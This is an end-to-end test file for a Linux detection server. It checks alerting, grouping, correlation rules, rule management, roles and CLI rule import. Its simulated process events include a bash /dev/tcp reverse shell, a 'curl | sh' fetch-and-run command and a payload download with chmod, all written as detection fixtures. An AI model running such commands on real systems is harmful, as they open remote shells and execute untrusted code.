// End-to-end detection on a real server process: built-in pack, alerts from posted batches with grouping of repeats,
// correlation rules across separate batches, rule management (validate, upload, disable, test, retro-hunt), roles, CLI import.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { repoRoot, writeZip } from '@vigil/common';
import { ApiClient, cleanup, request, startServer, tempDir, waitFor, type ServerHandle } from './harness.js';
import { batchBody } from './events.js';

let server: ServerHandle;
let api: ApiClient;
let agent: { agentId: string; key: string; cert: string };
let sequence = 0;
const eventsUrl = () => `https://127.0.0.1:${server.agentPort}/agent/v1/events`;

before(async () => {
  server = await startServer();
  api = await new ApiClient(server).login();
  agent = await api.enrollKeys();
});
after(cleanup);

function base(category: string, action: string, time = new Date()): Record<string, unknown> {
  return { '@timestamp': time.toISOString(), 'event.id': randomUUID(), 'event.sequence': ++sequence, 'event.category': category, 'event.action': action, 'host.id': agent.agentId };
}

function processStart(commandLine: string, executable: string, pid: number, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    ...base('process', 'start'),
    'process.pid': pid,
    'process.parent.pid': 1000,
    'process.executable': executable,
    'process.name': executable.split('/').pop(),
    'process.command_line': commandLine,
    'process.args': commandLine.split(' '),
    'process.parent.executable': '/usr/bin/bash',
    'user.name': 'www-data',
    'user.id': '33',
    ...extra,
  };
}

async function post(events: Record<string, unknown>[]): Promise<void> {
  const reply = await request(eventsUrl(), { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  // Detection runs just after the acknowledgement; wait until it has evaluated everything posted so far.
  evaluated += events.length;
  await waitFor('detection to evaluate the batch', async () => ((await api.get('/api/v1/metrics/detection')).body.eventsEvaluated >= evaluated ? true : undefined));
}

let evaluated = 0;

async function alerts(query = ''): Promise<any[]> {
  const reply = await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=1000${query}`);
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  return reply.body;
}

async function put(path: string, body: unknown, token = api.token) {
  return request(`${server.apiUrl}${path}`, { method: 'PUT', body, token, ca: server.caPem });
}

test('the built-in Linux pack is installed and loads without errors', async () => {
  const packs = (await api.get('/api/v1/rule-packs')).body as { name: string; files: number }[];
  const builtin = packs.find((p) => p.name === 'vigil-linux');
  assert.ok(builtin && builtin.files >= 30, JSON.stringify(packs));
  const report = (await api.get('/api/v1/rules/load-report')).body;
  assert.equal(report.errors, 0, JSON.stringify(report.problems.slice(0, 5)));
  const rules = (await api.get('/api/v1/rules?pack=vigil-linux')).body;
  assert.equal(rules.total, builtin.files);
});

test('a reverse shell event raises an alert with rule, fields and event id as soon as the batch is acknowledged', async () => {
  const benign = processStart('ls -la /srv', '/usr/bin/ls', 4241);
  const event = processStart('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '/usr/bin/bash', 4242);
  await post([benign, event]);
  // Detection runs right after the acknowledgement: the alert is stored within milliseconds.
  const found = await waitFor('the reverse shell alert', async () => {
    const list = (await alerts()).filter((a) => a.eventIds.includes(event['event.id']));
    return list.length ? list : undefined;
  });
  assert.equal(found.length, 1, JSON.stringify(await alerts()));
  const alert = found[0];
  assert.match(alert.ruleTitle, /reverse/i);
  assert.ok(['high', 'critical'].includes(alert.level));
  assert.ok(alert.tags.some((t: string) => t.startsWith('attack.')));
  assert.ok(alert.fields.length > 0);
  assert.equal(alert.status, 'new');
  const metrics = (await api.get('/api/v1/metrics/detection')).body;
  assert.ok(metrics.eventsEvaluated >= 2 && metrics.alertsCreated >= 1 && metrics.alertLatencyP99Ms !== null, JSON.stringify(metrics));
});

test('repeats of a rule by the same process are grouped into one alert with a count', async () => {
  for (let i = 0; i < 5; i++) await post([processStart(`bash -c "curl -fsSL http://203.0.113.9/x${i}.sh | sh"`, '/usr/bin/bash', 5555, { 'process.entity_id': 'proc-5555' })]);
  const grouped = (await alerts()).filter((a) => a.processKey === 'proc-5555');
  assert.equal(grouped.length, 1, JSON.stringify(grouped));
  assert.equal(grouped[0].count, 5);
  assert.equal(grouped[0].eventIds.length, 5);
});

/** The correlation test rules, shared with the detection worker's unit tests (tests/fixtures/rules). */
const fixtureRule = (file: string) => ({ file, text: readFileSync(join(repoRoot(), 'tests', 'fixtures', 'rules', file), 'utf8') });
const bruteForcePack = { version: '1', description: 'correlation test pack', files: [fixtureRule('brute-force.yml'), fixtureRule('dropper.yml')] };

function login(action: 'logon' | 'logon_failed', address: string): Record<string, unknown> {
  return { ...base('authentication', action), 'user.name': 'admin', 'source.ip': address, 'logon.service': 'sshd', 'event.outcome': action === 'logon' ? 'success' : 'failure' };
}

test('correlation rules fire on events streamed in separate batches (brute force, temporal sequence)', async () => {
  const reply = await put('/api/v1/rule-packs/correlation-test', bruteForcePack);
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  assert.equal(reply.body.errors, 0, JSON.stringify(reply.body.problems));

  // Ten failures from ten different sources, then a success: no brute force.
  for (let i = 0; i < 10; i++) await post([login('logon_failed', `198.51.100.${i + 1}`)]);
  await post([login('logon', '198.51.100.1')]);
  assert.equal((await alerts()).filter((a) => a.ruleId === '0b7f3a52-5a6f-4f37-9d1c-3c6c8f2b1a04').length, 0);

  // Ten failures from one source, each in its own batch, then a success from it.
  for (let i = 0; i < 10; i++) await post([login('logon_failed', '192.0.2.77')]);
  await post([login('logon', '192.0.2.77')]);
  const brute = (await alerts()).filter((a) => a.ruleId === '0b7f3a52-5a6f-4f37-9d1c-3c6c8f2b1a04');
  assert.equal(brute.length, 1, JSON.stringify(await alerts()));
  assert.equal(brute[0].kind, 'correlation');
  assert.equal(brute[0].level, 'critical');
  assert.deepEqual(brute[0].group, { 'source.ip': '192.0.2.77' });

  await post([processStart('curl -o /tmp/payload http://203.0.113.5/p', '/usr/bin/curl', 7001)]);
  await post([processStart('ls /tmp', '/usr/bin/ls', 7002)]);
  await post([processStart('chmod +x /tmp/payload', '/usr/bin/chmod', 7003)]);
  const sequenceAlerts = (await alerts()).filter((a) => a.ruleId === '6d1c2e8a-0c55-4a35-9f8e-8a3f5c1d2b03');
  assert.equal(sequenceAlerts.length, 1);
  assert.equal(sequenceAlerts[0].eventIds.length, 2);
});

test('rule upload is validated with locations; disable, sample test and retro-hunt work', async () => {
  const bad = await api.post('/api/v1/rules', { text: 'title: broken\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    Image|nosuchmod: x\n  condition: sel\n' });
  assert.equal(bad.status, 400);
  assert.match(bad.body.error.message, /modifier/i);
  assert.equal(bad.body.error.location.line, 5);

  const rule = `title: Marker command
id: 9a0c4f7e-1d2b-4c3a-8e5f-6a7b8c9d0e1f
status: test
level: medium
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains: vigil-e2e-marker
  condition: selection
`;
  const early = processStart('echo vigil-e2e-marker before-upload', '/usr/bin/echo', 8000);
  await post([early]);
  const created = await api.post('/api/v1/rules', { text: rule, pack: 'custom', file: 'marker.yml' });
  assert.equal(created.status, 201, JSON.stringify(created.body));

  const sample = await api.post('/api/v1/rules/test', { text: rule, events: [processStart('echo vigil-e2e-marker', '/usr/bin/echo', 1), processStart('echo other', '/usr/bin/echo', 2)] });
  assert.equal(sample.status, 200);
  assert.deepEqual(sample.body.rules[0].matches.map((m: { index: number }) => m.index), [0]);

  const hunt = await api.post('/api/v1/rules/retro-hunt', { rule_ids: ['9a0c4f7e-1d2b-4c3a-8e5f-6a7b8c9d0e1f'] });
  assert.equal(hunt.status, 200, JSON.stringify(hunt.body));
  assert.deepEqual(hunt.body.matches.map((m: { eventId: string }) => m.eventId), [early['event.id']]);

  const live = processStart('echo vigil-e2e-marker live', '/usr/bin/echo', 8001);
  await post([live]);
  assert.equal((await alerts()).filter((a) => a.eventIds.includes(live['event.id'])).length, 1);

  const disabled = await request(`${server.apiUrl}/api/v1/rules/9a0c4f7e-1d2b-4c3a-8e5f-6a7b8c9d0e1f`, { method: 'PATCH', body: { enabled: false }, token: api.token, ca: server.caPem });
  assert.equal(disabled.status, 200, JSON.stringify(disabled.body));
  assert.equal(disabled.body.enabled, false);
  const quiet = processStart('echo vigil-e2e-marker after-disable', '/usr/bin/echo', 8002);
  await post([quiet]);
  assert.equal((await alerts()).filter((a) => a.eventIds.includes(quiet['event.id'])).length, 0);

  const audit = (await api.get('/api/v1/audit?limit=50')).body as { action: string }[];
  for (const action of ['rule.put', 'rule.disable', 'rule_pack.put', 'rule.retro_hunt']) assert.ok(audit.some((a) => a.action === action), action);
});

test('alerts can be triaged; a viewer can read alerts and rules but not change them', async () => {
  const [first] = await alerts();
  const triaged = await request(`${server.apiUrl}/api/v1/alerts/${first.id}`, { method: 'PATCH', body: { status: 'in_progress', assignee: 'alice' }, token: api.token, ca: server.caPem });
  assert.equal(triaged.status, 200);
  assert.equal(triaged.body.status, 'in_progress');
  const viewer = (await api.post('/api/v1/api-tokens', { name: 'viewer', role: 'viewer' })).body.token as string;
  assert.equal((await request(`${server.apiUrl}/api/v1/alerts`, { token: viewer, ca: server.caPem })).status, 200);
  assert.equal((await request(`${server.apiUrl}/api/v1/rules`, { token: viewer, ca: server.caPem })).status, 200);
  assert.equal((await put('/api/v1/rule-packs/nope', { version: '1', files: [] }, viewer)).status, 403);
  assert.equal((await request(`${server.apiUrl}/api/v1/alerts/${first.id}`, { method: 'PATCH', body: { status: 'resolved' }, token: viewer, ca: server.caPem })).status, 403);
});

test('vigil rules import: a directory and a zip become versioned packs; broken rules are reported with file:line:col', async () => {
  const token = (await api.post('/api/v1/api-tokens', { name: 'importer', role: 'analyst' })).body.token as string;
  const dir = tempDir('rules');
  mkdirSync(join(dir, 'linux'));
  writeFileSync(join(dir, 'linux', 'good.yml'), 'title: Good\nid: 3f6d8a1e-2b4c-4d5e-8f9a-0b1c2d3e4f50\nstatus: test\nlevel: low\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    Image|endswith: /nmap\n  condition: sel\n');
  writeFileSync(join(dir, 'linux', 'bad.yml'), 'title: Bad\nid: 3f6d8a1e-2b4c-4d5e-8f9a-0b1c2d3e4f51\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    Image: x\n  condition: sel and missing\n');
  const cli = join(repoRoot(), 'apps', 'cli', 'bin', 'vigil.js');
  const env = { ...process.env, VIGIL_API_TOKEN: token };
  const common = ['--server', server.apiUrl, '--ca-file', join(server.dataDir, 'pki', 'ca.crt')];
  const check = spawnSync(process.execPath, [cli, 'rules', 'check', dir], { env, encoding: 'utf8' });
  assert.equal(check.status, 1, check.stderr);
  assert.match(check.stderr, /linux\/bad\.yml:7:22 error unknown_search/);
  const refused = spawnSync(process.execPath, [cli, 'rules', 'import', dir, ...common, '--pack', 'mine'], { env, encoding: 'utf8' });
  assert.equal(refused.status, 1, refused.stderr);
  const forced = spawnSync(process.execPath, [cli, 'rules', 'import', dir, ...common, '--pack', 'mine', '--version', '2.0', '--force'], { env, encoding: 'utf8' });
  assert.equal(forced.status, 0, forced.stderr);
  assert.match(forced.stderr, /pack mine version 2\.0: 1 rules loaded from 2 files, 1 errors/);

  const zipFile = join(tempDir('zip'), 'community.zip');
  writeFileSync(zipFile, writeZip([{ path: 'rules/good.yml', data: Buffer.from('title: Zipped\nid: 3f6d8a1e-2b4c-4d5e-8f9a-0b1c2d3e4f52\nstatus: test\nlevel: low\nlogsource: { product: linux, category: process_creation }\ndetection:\n  sel:\n    Image|endswith: /masscan\n  condition: sel\n') }]));
  const zipped = spawnSync(process.execPath, [cli, 'rules', 'import', zipFile, ...common], { env, encoding: 'utf8' });
  assert.equal(zipped.status, 0, zipped.stderr);
  const packs = (await api.get('/api/v1/rule-packs')).body as { name: string; version: string }[];
  assert.equal(packs.find((p) => p.name === 'mine')?.version, '2.0');
  assert.ok(packs.some((p) => p.name === 'community'));
  await waitFor('zipped rule listed', async () => ((await api.get('/api/v1/rules?q=Zipped')).body.total === 1 ? true : undefined));
});
